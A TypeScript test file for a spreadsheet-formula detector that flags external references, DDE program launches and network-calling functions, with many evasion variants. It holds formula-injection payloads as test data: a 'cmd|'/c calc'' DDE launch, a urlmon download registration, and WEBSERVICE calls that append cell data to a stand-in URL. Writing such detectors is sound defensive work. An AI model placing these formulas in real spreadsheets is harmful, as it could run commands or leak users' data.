import { expect, test } from 'vitest'
import { copiedFormula, movedFormula } from './formula-references.ts'
import { reachesOutside } from './outside-references.ts'

test.each([
  // Another file.
  '[1]Sheet1!A1',
  "'[2]My sheet'!$A$1",
  'SUM(A1)+[1]!Total',
  '[https://example.org/book.xlsx]S!A1',
  // Another program.
  "cmd|'/c calc'!A0",
  "'cmd'|'/c calc'!A0",
  'DDE("soffice","a.ods","A1")',
  // Functions that fetch, send or run something.
  'WEBSERVICE("https://example.org/?"&A4)',
  '_xlfn.WEBSERVICE ("https://example.org")',
  '_xlfn._xlws.IMAGE(A1)',
  'IF(TRUE,image(A1),1)',
  'HYPERLINK("https://example.org/?"&A4,"here")',
  'IMPORTXML(A1,B1)',
  'RTD("a","b","c")',
  'REGISTER.ID("urlmon","URLDownloadToFileA")',
  'SQL.REQUEST("dsn")',
  'CUBEVALUE("connection","[Measures].[x]")',
  'INDIRECT("\'https://example.org/x.ods\'#$S.A1")',
  'COPILOT("Summarize",A1:A9)',
  'SomeFunctionOfTomorrow(A1)',
  'add\\in(A1)',
  // Functions passed to or called by others, without a name before the parenthesis.
  '_xlfn.MAP(A4:A9,_xleta.WEBSERVICE)',
  'MAP(A4:A9,WEBSERVICE)',
  '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f(A4))',
  '(WEBSERVICE)(A4)',
  'IF(TRUE,_xleta.WEBSERVICE) (A4)',
  // Names that no sheet can have.
  "'https://example.org/book.xlsx'!Total",
  String.raw`'\\example.org\share\book.xlsx'!Total`,
  // Characters written as escapes.
  'WEBSERVICE_x0028_"https://example.org/?"&A4)',
  '"a_x0022_&WEBSERVICE(A4)&_x0022_"',
  // Between the columns of a table.
  'T[[a],WEBSERVICE("https://example.org/"&A1)]',
  'T[[a]&"x",[b]]',
  // In brackets without the name of a table.
  'SUM([book.xlsx]S!A1)',
  '[book] S!A1',
  '[WEBSERVICE(A4)]',
  '["a"]',
  'WEB[a]SERVICE("https://example.org/")',
  '[a](A4)',
  // What cannot be read with certainty.
  `T[a'[b]]+WEBSERVICE("x")+'S'!A1`,
  '"open',
  "'open",
])('%s reaches outside', (formula) => {
  expect(reachesOutside(formula)).toBe(true)
})

test.each([
  '',
  'SUM(Table1[Total])',
  'SUM(Table1[[#This Row],[Cost (USD)]])',
  `SUM(Costs[Paid '[USD']])`,
  'SUM(Table1[@Total])',
  'SUBTOTAL(109,[Total])',
  '[@Total] * 2+[@[Cost in USD]]',
  'SUM([[#This Row],[a]:[b]])',
  'SUM(Table1[@[Cost (USD)]])',
  'SUM(Table1[[#Headers],[#Data],[a]:[b]])',
  '"[1]"&A1',
  '"WEBSERVICE("&A1&"|"',
  '"say ""IMAGE("""',
  "SUM('Cost (a | b)'!A1:A9,'O''Brien (2)'!B1)",
  'COUNTIFS(People!$A$4:$A$9,"<>",B4:B9,"red")/COUNTA(A4:A9)',
  '_xlfn.XLOOKUP(A1,B:B,C:C)',
  '_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))',
  '_xlfn.ANCHORARRAY(A1)*2',
  'NETWORKDAYS.INTL(A1,TODAY())+{1,2;3,4}+#REF!',
  'WebserviceTotal+1',
  '"line_x000D_break"&A1',
  '_xlfn.LET(_xlpm.x,SUM(A1:A9),_xlpm.x*2)',
  '(A1+B1)*(C1)',
])('%s stays inside', (formula) => {
  expect(reachesOutside(formula)).toBe(false)
})

const moves = { names: new Map([['a', 'b']]), tables: new Map([['a', 'b']]), growth: new Map([['a', { row: 4, added: 9 }]]) }

// In time that grows with the square of the length, each would take minutes.
test.each([
  [`'`, true],
  [`"`, false],
  ['a', false],
  ['A.', false],
  ['_xlfn.', false],
  ['[', true],
  ['a[', true],
  ["a['[", true],
  ['a[[b]', true],
  [') ', false],
  ['( ', false],
  ["'a'!", false],
  ["''!", false],
  ["'a'''", true],
  ["a['']", false],
  ["a['['[]", false],
  ['$A$1:', false],
  ['_x0028', true],
])('a long formula of only %s is judged and moved in short time', (text, outside) => {
  expect(reachesOutside(text.repeat(8_000 / text.length))).toBe(outside)
  const longer = text.repeat(600_000 / text.length)
  expect(movedFormula(longer, 'a', moves).length).toBeGreaterThanOrEqual(longer.length)
  expect(copiedFormula(longer, 1, 1).length).toBeGreaterThanOrEqual(longer.length)
})

test('a long name of a column with many escapes is skipped in short time', () => {
  const formula = (escapes: number) => `a[${"''".repeat(escapes)}'['[]`
  expect(reachesOutside(formula(4_000))).toBe(false)
  expect(movedFormula(formula(300_000), 'a', moves)).toBe(formula(300_000).replace('a', 'b'))
})

test('a formula that is longer than programs accept counts as reaching outside', () => {
  expect([reachesOutside('A'.repeat(8_192)), reachesOutside('A'.repeat(8_193))]).toEqual([false, true])
})
